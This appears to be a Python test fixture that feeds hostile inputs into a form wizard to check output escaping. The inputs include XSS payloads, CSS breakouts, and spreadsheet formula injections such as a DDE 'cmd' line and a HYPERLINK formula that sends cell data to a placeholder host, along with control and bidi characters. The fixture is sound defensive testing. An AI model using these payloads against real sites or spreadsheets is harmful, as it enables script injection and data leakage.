"""What somebody might type to do harm, or to break a layout; each of it is only to be seen."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import chain, cycle, islice

from wizard.dialogue.flows import Flows
from wizard.dialogue.kinds import (
    ContactList,
    EvidenceList,
    JobToDo,
    Kind,
    PersonInCharge,
    Text,
)
from wizard.dialogue.values import (
    Answer,
    AskSomeone,
    ContactDetails,
    Evidence,
    Given,
    Job,
    Person,
    Reply,
    Value,
)

RAN = "window.__ran = (window.__ran || 0) + 1"
"""What no page is ever to run."""
NAME = (
    f'Rose Court </style><script>{RAN}</script>"; }} * {{ display: none }} ]]> \u202ee` \\22 <!--'
)
"""Of a service; it stands at the head of every page that is printed, by way of the style."""
LONG_WORD = "Bankholidayrota" * 667
"""Ten thousand characters without a place to break them."""
ZALGO = "Z" + "\u0335\u0321\u0316\u0300\u030d" * 12 + "algo"

MARKUP = (
    f"<script>{RAN}</script>",
    f"</style></title><script>{RAN}</script>",
    f'<img src="https://example.org/x.png" onerror="{RAN}">',
    f'"><svg onload="{RAN}"><a href="javascript:{RAN}">x</a>',
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    '<link rel="stylesheet" href="https://example.org/x.css">',
    '<meta http-equiv="refresh" content="0; url=https://example.org/">',
    "<!-- <table><tr><td> ]]> </table>",
    "&lt;b&gt; &#x3c;script&#x3e; &amp;",
    '"; } @import url(https://example.org/x.css); * { display: none } b { content: "',
)
MARKDOWN = (
    f"[click](javascript:{RAN}) ![x](https://example.org/y.png)",
    "<https://example.org/> https://example.org/ www.example.org",
    f"```\n</code></pre><script>{RAN}</script>\n~~~",
    "# A heading\n===\n---\n1. one\n- two\n> three\n| a | b |\n| --- | --- |",
    f"\\`{{{{ 7 * 7 }}}}` ${{{RAN}}} [x]: https://example.org/ \\[x\\]\\",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?x="&A1, "press")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\uff1d1+1",
    '=WEBSERVICE("https://example.org/")',
    "1.1.3",
    "03/04/05",
    "1E5",
    "00120",
    'a","b\r\n"c";d',
)
CHARACTERS = (
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x9b1m\x00\x7f",
    "\u202eesoR\u2066 \u202d \u05d0\u05d1\u05d2 \u0631\u0648\u0632",
    "zero\u200b\u200c\u200d\ufeffwidth\u00ad",
    ZALGO,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f1ec\U0001f1e7 \U0001f339 \ufffc \ufdd0",
    "a\u2028b\u2029c\x0b\x0cd\x85e",
    " \u00a0\u3000 ",
)
WIDE = (LONG_WORD, "W" * 300, "\u4e16" * 400, "https://example.org/" + "a/" * 300)

EVERY_TRICK = tuple(chain(MARKUP, MARKDOWN, FORMULAS, CHARACTERS, WIDE))


def hostile_replies(flows: Flows, answers: Mapping[str, Answer]) -> Mapping[str, Reply]:
    """Return a reply to every question: a trick wherever something is typed, each in its turn.

    What is chosen is chosen as in `answers`; what they leave open is to be asked of a trick.
    """
    tricks = cycle(EVERY_TRICK)
    replies: dict[str, Reply] = {}
    for flow in flows.values():
        for ask in flow.asks():
            question = flow.question(ask.id)
            value = _typed(ask.kind, tricks)
            if value is not None:
                replies[question] = Given(value)
            elif question in answers:
                replies[question] = answers[question].reply
            else:
                replies[question] = AskSomeone(next(tricks))
    return replies


def _typed(kind: Kind, tricks: Iterator[str]) -> Value | None:
    match kind:
        case Text():
            return next(tricks)
        case PersonInCharge():
            return Person(next(tricks), next(tricks))
        case JobToDo():
            return Job(next(tricks), next(tricks))
        case EvidenceList():
            return (Evidence(next(tricks), next(tricks), next(tricks)),)
        case ContactList():
            return (ContactDetails(*islice(tricks, 5)),)
    return None
